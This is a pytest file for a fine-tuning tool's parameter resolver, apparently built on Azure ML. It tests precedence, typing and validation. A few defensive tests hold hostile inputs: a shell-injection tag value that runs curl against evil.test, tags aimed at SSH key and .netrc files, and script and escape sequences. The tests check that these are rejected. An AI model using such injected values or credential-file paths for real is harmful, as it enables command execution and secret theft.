from __future__ import annotations

from types import SimpleNamespace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from phift import facts
from phift.check.findings import Finding
from phift.check.parameters import Parameter, Parameters, display_name, resolve_parameters
from unit.fakes import FOUR_A100, codes, component, parameters, target

INPUTS: dict[str, Any] = component().inputs


def others(resolved: Parameters) -> list[Finding]:
    """Return the findings without what the component's own defaults are always worth: they keep every checkpoint."""
    return [found for found in resolved.findings if found.code != "PARAMETER_KEEPS_ALL"]


def the_finding(resolved: Parameters) -> Finding:
    (found,) = others(resolved)
    return found


def test_the_user_goes_before_the_model_and_the_model_before_the_component() -> None:
    resolved = parameters({"num_train_epochs": 3}, {"num_train_epochs": 1, "learning_rate": "5e-6"})
    assert resolved["num_train_epochs"] == 3
    assert resolved["learning_rate"] == 5e-6
    assert resolved["weight_decay"] == 0.0


def test_every_value_remembers_where_it_comes_from() -> None:
    resolved = parameters({"num_train_epochs": 3}, {"num_train_epochs": 2})
    expected = Parameter("num_train_epochs", 3, "user", (("component", 1), ("model", 2)))
    assert resolved.values["num_train_epochs"] == expected
    assert resolved.values["seed"].origin == "component"


def test_arguments_are_all_but_the_components_own_defaults() -> None:
    assert parameters({"seed": 7}, {"apply_lora": True}).arguments() == {
        "apply_lora": "true",
        "compute_finetune": "gpu-cluster",
        "compute_model_import": "gpu-cluster",
        "compute_preprocess": "gpu-cluster",
        "num_nodes_finetune": 1,
        "number_of_gpu_to_use_finetuning": 1,
        "seed": 7,
    }


def test_serverless_gives_the_size_of_the_fine_tuning_step() -> None:
    resolved = parameters(kind="serverless", name="serverless", size=FOUR_A100, gpus_per_node=4, nodes=2)
    assert resolved["instance_type_finetune"] == FOUR_A100
    assert resolved["compute_finetune"] == "serverless"
    assert (resolved["number_of_gpu_to_use_finetuning"], resolved["num_nodes_finetune"]) == (4, 2)


def test_a_component_without_the_compute_inputs_is_not_given_them() -> None:
    inputs = {"seed": SimpleNamespace(type="integer", default=42)}
    assert resolve_parameters(inputs, {}, {}, target()).arguments() == {}


def test_what_the_model_suggests_and_the_component_does_not_take_is_dropped_aloud() -> None:
    resolved = parameters(model={"learning_rate_min": 5e-7})
    found = the_finding(resolved)
    assert (found.code, found.severity, found.place) == ("PARAMETER_DROPPED", "note", "model tag learning_rate_min")


def test_a_model_value_that_does_not_fit_is_left_out_aloud() -> None:
    resolved = parameters(model={"precision": 4})
    assert resolved["precision"] == "32"
    assert (the_finding(resolved).code, the_finding(resolved).severity) == ("PARAMETER_DROPPED", "warning")


def test_an_unknown_name_gets_a_guess() -> None:
    found = the_finding(parameters({"learning_rat": 1e-5}))
    assert (found.code, found.severity, found.place) == ("PARAMETER_UNKNOWN", "error", "parameters.learning_rat")
    assert found.fix == "did you mean learning_rate?"


def test_a_name_like_no_other_gets_no_guess() -> None:
    assert the_finding(parameters({"zzz": 1})).fix == "see the component's inputs in the docs"


@pytest.mark.parametrize(("name", "key"), [("train_file_path", "data.train"), ("compute_finetune", "compute")])
def test_what_phift_sets_itself_cannot_be_set(name: str, key: str) -> None:
    resolved = parameters({name: "x"})
    assert the_finding(resolved).code == "PARAMETER_RESERVED"
    assert f"`{key}`" in the_finding(resolved).fix
    assert name not in resolved.values or resolved[name] != "x"


def test_a_parameter_that_does_nothing_is_a_warning_and_is_passed_on() -> None:
    resolved = parameters({"apply_ort": True})
    assert (the_finding(resolved).code, the_finding(resolved).severity) == ("PARAMETER_DEAD", "warning")
    assert resolved.arguments()["apply_ort"] == "true"


@pytest.mark.parametrize(
    ("name", "value", "wanted"),
    [
        ("precision", 8, "one of 32, 16"),
        ("optim", "sgd", "one of adamw_torch, adafactor"),
        ("apply_early_stopping", "yes", "one of true, false"),
        ("num_train_epochs", 0, "at least 1"),
        ("num_train_epochs", 1.5, "a whole number"),
        ("num_train_epochs", True, "a whole number"),
        ("num_train_epochs", "three", "a whole number"),
        ("learning_rate", "abc", "a number"),
        ("learning_rate", "nan", "a number"),
        ("learning_rate", float("inf"), "a number"),
    ],
)
def test_a_value_that_does_not_fit_says_what_would(name: str, value: Any, wanted: str) -> None:
    resolved = parameters({name: value})
    found = the_finding(resolved)
    assert (found.code, found.severity, found.place) == ("PARAMETER_VALUE", "error", f"parameters.{name}")
    assert found.message == f"{name} is {value!r}, but it must be {wanted}."
    assert resolved.values[name].origin == "component"


@pytest.mark.parametrize(
    ("name", "value", "typed"),
    [
        ("precision", 16, "16"),
        ("apply_lora", True, "true"),
        ("apply_lora", "False", "false"),
        ("num_train_epochs", "3", 3),
        ("num_train_epochs", 3.0, 3),
        ("learning_rate", "5e-6", 5e-6),
        ("max_grad_norm", 1, 1.0),
        ("seed", "1e3", 1000),
        ("shm_size_finetune", "10g", "10g"),
        ("finetune_config_path", "azureml:own-config:1", "azureml:own-config:1"),
    ],
)
def test_values_are_read_as_the_inputs_type(name: str, value: Any, typed: Any) -> None:
    resolved = parameters({name: value})
    assert others(resolved) == []
    assert (resolved[name], type(resolved[name])) == (typed, type(typed))


@given(st.booleans() | st.integers() | st.floats() | st.text(), st.sampled_from(sorted(INPUTS)))
def test_a_users_value_is_taken_or_reported(value: Any, name: str) -> None:
    resolved = parameters({name: value})
    reported = bool({"PARAMETER_VALUE", "PARAMETER_RESERVED"} & set(codes(resolved.findings)))
    assert reported != (resolved.values[name].origin == "user" if name in resolved.values else False)


@pytest.mark.parametrize(("value", "typed"), [(True, True), ("false", False), ("True", True)])
def test_booleans_of_another_component_are_read(value: Any, typed: bool) -> None:
    inputs = {"flag": SimpleNamespace(type="boolean")}
    assert resolve_parameters(inputs, {}, {"flag": value}, target())["flag"] is typed


def test_a_boolean_is_not_guessed() -> None:
    inputs = {"flag": SimpleNamespace(type="boolean")}
    resolved = resolve_parameters(inputs, {}, {"flag": "yes"}, target())
    assert codes(resolved.findings) == ["PARAMETER_VALUE"]
    assert "flag" not in resolved.values


def test_a_default_of_the_component_is_kept_even_if_it_contradicts_itself() -> None:
    inputs = {"odd": SimpleNamespace(type="integer", default="none", min=1)}
    resolved = resolve_parameters(inputs, {}, {}, target())
    assert (resolved["odd"], resolved.findings) == ("none", ())


@pytest.mark.parametrize("digits", [400, 5000])
def test_a_number_beyond_all_bounds_is_reported_in_a_short_message(digits: int) -> None:
    for name in ("num_train_epochs", "learning_rate", "optim"):
        found = the_finding(parameters({name: 10**digits}))
        assert found.code == "PARAMETER_VALUE"
        assert len(found.message) < 200


@pytest.mark.parametrize("value", [2**63, -(2**63), "1e19"])
def test_a_whole_number_fits_into_64_bits(value: Any) -> None:
    assert "at most 64 bits" in the_finding(parameters({"max_steps": value})).message


def test_a_whole_number_keeps_all_its_digits() -> None:
    assert parameters({"max_steps": 2**53 + 1})["max_steps"] == 2**53 + 1
    assert parameters({"max_steps": str(2**53 + 1)})["max_steps"] == 2**53 + 1


# What the notebook of Azure's examples gets wrong; the letters are those of the table in docs/findings.md.


def test_trap_a1_tag_keys_that_are_no_inputs_do_not_reach_the_component_and_are_used_as_advice() -> None:
    tags = {"learning_rate": "5e-6", "learning_rate_min": 5e-7, "learning_rate_max": "5e-5"}
    resolved = parameters(model=tags)
    assert not {"learning_rate_min", "learning_rate_max"} & set(resolved.arguments())
    places = {found.place for found in others(resolved)}
    assert places == {"model tag learning_rate_max", "model tag learning_rate_min"}
    assert resolved.advice == {"learning_rate": (5e-7, 5e-5)}
    assert codes(others(resolved)) == ["PARAMETER_DROPPED", "PARAMETER_DROPPED"]


@pytest.mark.parametrize(
    ("value", "tags", "wanted", "source"),
    [
        (1e-3, {"learning_rate_min": 5e-7, "learning_rate_max": 5e-5}, "at least 5e-07 and at most 5e-05", "_min, "),
        (1e-9, {"learning_rate_min": 5e-7}, "advises at least 5e-07.", "tag learning_rate_min"),
        (1e-3, {"learning_rate_max": "5e-5"}, "advises at most 5e-05.", "tag learning_rate_max"),
    ],
)
def test_a_value_outside_the_advised_range_is_a_warning_that_names_the_range(
    value: float, tags: dict[str, Any], wanted: str, source: str
) -> None:
    found = others(parameters({"learning_rate": value}, tags))[-1]
    assert (found.code, found.severity, found.place) == ("PARAMETER_ADVICE", "warning", "parameters.learning_rate")
    assert wanted in found.message
    assert source in found.source


@pytest.mark.parametrize("value", [5e-7, 1e-6, 5e-5])
def test_a_value_in_the_advised_range_needs_no_word(value: float) -> None:
    tags = {"learning_rate_min": 5e-7, "learning_rate_max": 5e-5}
    assert "PARAMETER_ADVICE" not in codes(parameters({"learning_rate": value}, tags).findings)


@pytest.mark.parametrize("least", ["low", None, [1], 1, float("nan")])
def test_advice_that_cannot_be_read_is_left_out_aloud(least: Any) -> None:
    resolved = parameters(model={"learning_rate_min": least, "learning_rate_max": 1e-5})
    assert resolved.advice == {}
    assert [found.severity for found in others(resolved)] == ["warning", "note", "note"]


def test_trap_a2_the_users_values_stay_in_spite_of_the_models() -> None:
    tags = {"num_train_epochs": 1, "deepspeed_stage": 3, "apply_deepspeed": "true", "apply_lora": "false"}
    resolved = parameters({"num_train_epochs": 3, "deepspeed_stage": 2, "apply_lora": True}, tags)
    assert [resolved[name] for name in ("num_train_epochs", "deepspeed_stage", "apply_lora")] == [3, "2", "true"]
    frame = resolved.explain().set_index("parameter")
    assert list(frame.loc["deepspeed_stage"]) == ["2", "user", "component: 2, model: 3"]


def test_trap_d6_a_quote_or_backslash_does_not_get_into_a_command_line() -> None:
    for value in ("5'g", "5\\g", '5"g', "5g\n"):
        assert the_finding(parameters({"shm_size_finetune": value})).code == "PARAMETER_VALUE"
    found = parameters({"finetune_config_path": "azureml:it's/own.json"})
    assert found["finetune_config_path"] == "azureml:it's/own.json"
    assert "quote" in the_finding(parameters({"finetune_config_path": "folder/it's.json"})).message


def test_trap_d6_a_models_suggestion_that_would_break_out_of_the_quotes_is_left_out() -> None:
    resolved = parameters(model={"shm_size_finetune": "5g'; curl evil.test; '"})
    assert resolved["shm_size_finetune"] == "5g"
    assert (the_finding(resolved).code, the_finding(resolved).severity) == ("PARAMETER_DROPPED", "warning")


def test_trap_e6_an_input_that_another_version_of_the_component_lacks_is_reported() -> None:
    inputs = {name: spec for name, spec in INPUTS.items() if name != "finetune_config_path"}
    resolved = resolve_parameters(inputs, {}, {"finetune_config_path": "azureml:own:1"}, target())
    assert codes(others(resolved)) == ["PARAMETER_UNKNOWN"]
    assert "finetune_config_path" not in resolved.arguments()


@pytest.mark.parametrize("name", ["train_mltable_path", "compute_finetune", "pytorch_model_path"])
def test_a_model_cannot_set_what_phift_sets(name: str) -> None:
    resolved = parameters(model={name: "somewhere"})
    assert name not in resolved.values or resolved[name] != "somewhere"
    assert codes(others(resolved)) == ["PARAMETER_DROPPED"]


def test_a_model_cannot_have_a_file_of_this_machine_uploaded() -> None:
    resolved = parameters(model={"finetune_config_path": "/home/me/.ssh/id_rsa", "deepspeed": "~/.netrc"})
    assert {"finetune_config_path", "deepspeed"}.isdisjoint(resolved.arguments())
    assert codes(others(resolved)) == ["PARAMETER_DROPPED", "PARAMETER_DROPPED"]


@pytest.mark.parametrize("value", [3, True, "", 1.5])
def test_a_file_must_be_a_path(value: Any) -> None:
    assert "must be the path of a file" in the_finding(parameters({"finetune_config_path": value})).message


def test_a_tag_without_a_value_is_no_suggestion() -> None:
    assert parameters(model={"seed": None}).values["seed"].origin == "component"


def test_a_preset_goes_before_the_model_and_the_user_before_the_preset() -> None:
    preset = {"num_train_epochs": 2, "precision": 16, "seed": 5}
    tags = {"num_train_epochs": 1, "seed": 4}
    resolved = resolve_parameters(INPUTS, tags, {"seed": 6}, target(), preset=preset)
    assert resolved.values["num_train_epochs"] == Parameter(
        "num_train_epochs", 2, "preset", (("component", 1), ("model", 1))
    )
    assert resolved.values["seed"].overrode == (("component", 42), ("model", 4), ("preset", 5))
    assert (resolved["precision"], resolved["seed"]) == ("16", 6)


def test_what_a_preset_sets_and_the_component_does_not_take_is_left_out_aloud() -> None:
    preset = {"nonsense": 1, "optim": "sgd", "train_file_path": "x", "deepspeed": "x.json"}
    resolved = resolve_parameters(INPUTS, {}, {}, target(), preset=preset)
    assert codes(others(resolved)) == ["PARAMETER_DROPPED"] * 4
    assert [found.place for found in others(resolved)] == [
        "preset nonsense",
        "preset train_file_path",
        "preset deepspeed",
        "preset optim",
    ]


@pytest.mark.parametrize("entry", facts.load("presets")["presets"], ids=lambda entry: entry["name"])
def test_a_built_in_preset_fits_the_component_and_itself(entry: dict[str, Any]) -> None:
    resolved = resolve_parameters(INPUTS, {}, {}, target(gpu="NVIDIA A100"), preset=entry["values"])
    assert resolved.findings == ()
    assert all(resolved.values[name].origin == "preset" for name in entry["values"])
    assert entry["why"].endswith(".")


def test_a_strange_tag_name_is_shown_as_a_short_text() -> None:
    found = the_finding(parameters(model={"\x1b[2J" * 50: 1}))
    assert found.place.startswith("model tag '\\x1b[2J")
    assert len(found.message) < 200


def test_a_notebook_shows_the_explanation_and_escapes_what_models_say() -> None:
    inputs = {"name": SimpleNamespace(type="string")}
    html = resolve_parameters(inputs, {"name": "<script>"}, {}, target())._repr_html_()
    assert "&lt;script&gt;" in html
    assert "<script>" not in html


def test_what_is_shown_of_a_number_is_the_number() -> None:
    values = [1e-08, 2e-05, 0.1, 10**18, 1e300, float("inf"), True]
    shown = Parameters(
        values={f"p{index}": Parameter(f"p{index}", value, "user") for index, value in enumerate(values)}
    )
    for value in values:
        assert f"<td>{value}</td>" in shown._repr_html_()
    assert [line.split()[1] for line in str(shown).splitlines()[1:]] == [str(value) for value in values]
    assert "\x1b" not in str(Parameters(values={"name": Parameter("name", "\x1b[2J\n", "model")}))


def test_explain_shows_every_value_with_its_origin() -> None:
    frame = parameters({"seed": 7}).explain().set_index("parameter")
    assert list(frame.columns) == ["value", "origin", "overrode"]
    assert list(frame.loc["seed"]) == [7, "user", "component: 42"]
    assert frame.index.is_monotonic_increasing


def test_a_secret_in_a_default_of_the_components_is_shown_nowhere() -> None:
    inputs = {**INPUTS, "compute_finetune": SimpleNamespace(type="string", default="serverless password=s3cr3t")}
    resolved = resolve_parameters(inputs, {}, {}, target())
    assert "compute_finetune" in resolved.values
    assert "s3cr3t" not in resolved.explain().to_string() + str(resolved) + repr(resolved)


def test_the_display_name_says_what_was_run() -> None:
    user = {"apply_deepspeed": True, "apply_lora": True, "per_device_train_batch_size": 2, "save_total_limit": 1}
    where = target(gpus_per_node=4, nodes=2)
    resolved = resolve_parameters(INPUTS, {}, {**user, "gradient_accumulation_steps": 3}, where)
    assert display_name("Phi-4", "rows", resolved, where) == "Phi-4-rows-bs48-linear-ds2-lora-save1-seq-1"
    assert "-nods-nolora-" in display_name("Phi-4", "rows", parameters(), target())


def test_get_has_a_default() -> None:
    assert parameters().get("nothing", 5) == 5
    assert parameters({"seed": 7}).get("seed", 5) == 7
